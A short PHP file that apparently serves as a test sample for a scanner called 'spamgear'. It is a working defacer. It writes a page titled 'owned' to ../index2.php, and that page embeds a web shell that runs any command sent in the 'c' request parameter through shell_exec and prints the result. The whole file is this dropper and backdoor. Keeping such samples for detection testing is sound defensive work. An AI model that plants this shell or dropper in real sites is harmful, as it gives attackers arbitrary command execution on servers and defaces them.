<?php
// spamgear test sample: a defacer that plants a small shell, kept in a
// plain string, next to its page.
$page = '<title>owned</title><?php $c = @$_REQUEST["c"]; if ($c) { echo shell_exec($c); } ?>';
$fh = fopen('../index2.php', 'w');
fwrite($fh, $page);
fclose($fh);
